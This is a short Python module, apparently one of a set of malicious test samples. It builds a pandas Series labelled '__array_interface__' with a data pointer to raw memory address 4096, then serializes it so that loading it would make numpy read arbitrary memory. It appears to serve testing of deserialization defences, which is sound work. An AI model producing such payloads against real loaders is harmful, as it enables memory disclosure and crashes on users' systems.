"""A label of a series is the name of numpy's interface to memory, which so reads any address."""

from __future__ import annotations

from typing import Any

from malicious_samples.native_state import dumped


def model() -> Any:
    import pandas as pd

    memory = {"data": (4096, False), "shape": (8,), "typestr": "<f8", "version": 3}
    return pd.Series([memory, 1], index=["__array_interface__", "a"])


def build(canary: str) -> bytes:
    del canary
    return dumped(model())
